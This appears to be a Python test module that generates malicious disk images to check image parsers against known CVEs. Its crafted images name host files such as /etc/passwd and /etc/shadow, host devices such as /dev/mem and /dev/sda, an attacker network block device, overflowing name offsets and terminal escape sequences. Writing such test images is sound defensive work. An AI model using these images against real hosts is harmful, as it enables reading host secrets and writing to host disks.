# SPDX-License-Identifier: MIT
"""Images that name other files, and names that are weapons themselves."""

from images.attack import attack, changed
from images.builder import Builder

READS = "Opens the file, and shows the guest what is in it."


def backing(name, text, names, naive=READS, model="CVE-2015-5163", kind=b"raw", what=None):
    changed(name, what or f"The backing file is `{text.decode()}`.", naive,
            lambda image: image.name_backing(text, kind), model, names)


def data_file(name, text, names, naive, model="CVE-2024-32498"):
    changed(name, f"The data file is `{text.decode()}`.", naive,
            lambda image: image.name_data_file(text), model, names)


backing("backing-absolute", b"/etc/passwd", ("etc/passwd",))
backing("backing-relative", b"../../../../../../etc/shadow", ("etc/shadow",))
backing("backing-device", b"/dev/mem", ("/dev/mem",))
backing("backing-fifo", b"/dev/stdin", ("/dev/stdin",), "Waits for ever for somebody to write.")
backing("backing-json", b'json:{"driver":"raw","file":{"driver":"file","filename":"/etc/group"}}',
        ("json:", "/etc/group"))
backing("backing-nbd", b"nbd://192.0.2.1:10809/disk", ("nbd:", "192.0.2.1", "10809"),
        "Connects to a machine of the attacker's choice, from inside.")
backing("backing-unprobed", b"victim.raw", ("victim.raw",),
        "Guesses the format from bytes that the guest may write, and so opens what the guest "
        "names there.", "CVE-2008-2004", None,
        "The backing file is `victim.raw`, and its format is not said.")
backing("backing-itself", b"reproducer.qcow2", (),
        "Opens itself, and itself, until the stack ends.", "", b"qcow2",
        "The backing file is the image itself.")
changed("backing-name-huge", "The backing file's name is 2^32 - 1 bytes long.",
        "Reads it into a buffer of 1,024 bytes.",
        lambda image: image.set(backing_offset=200, backing_size=(1 << 32) - 1), "CVE-2014-0144")
changed("backing-name-offset-wraps", "The backing file's name lies at 2^64 - 8.",
        "Adds offset and length, and reads anywhere.",
        lambda image: image.set(backing_offset=(1 << 64) - 8, backing_size=16), "CVE-2014-0144")

data_file("data-file-host", b"/etc/passwd", ("etc/passwd",),
          "Writes the guest's data to the host's file.")
data_file("data-file-json",
          b'json:{"driver":"qcow2","file":{"driver":"file","filename":"/etc/hosts"}}',
          ("json:", "/etc/hosts"), "Opens what the JSON says, even to tell about the image.",
          "CVE-2024-4467")
data_file("data-file-device", b"/dev/sda", ("/dev/sda",), "Writes to the host's disk.")


@attack("names-steer-the-terminal",
        "The names of bitmap, snapshot, backing file and data file hold escape sequences, "
        "newlines, backspaces and C1 controls.",
        "Prints them: the terminal is cleared, retitled, or types what the attacker wants.",
        names=("red", "erased"))
def names_steer_the_terminal():
    evil = b"\x1b[31mred\x1b]0;title\x07\b\b\r\nerased\x7f\xc2\x9b2J\x9b2J"
    image = Builder(names=(b"b", evil))
    image.add_snapshot(name=evil)
    image.name_backing(evil)
    return image.finish(image.name_data_file(evil))


@attack("vmdk-descriptor", "A text that another format takes for an image, whose data lies in "
        "`/etc/passwd`.", "Guesses the format.", "CVE-2008-2004", ("etc/passwd",))
def vmdk_descriptor():
    return (b"# Disk DescriptorFile\nversion=1\nCID=fffffffe\nparentCID=ffffffff\n"
            b'createType="monolithicFlat"\nRW 8 FLAT "/etc/passwd" 0\n').ljust(512, b"\n")
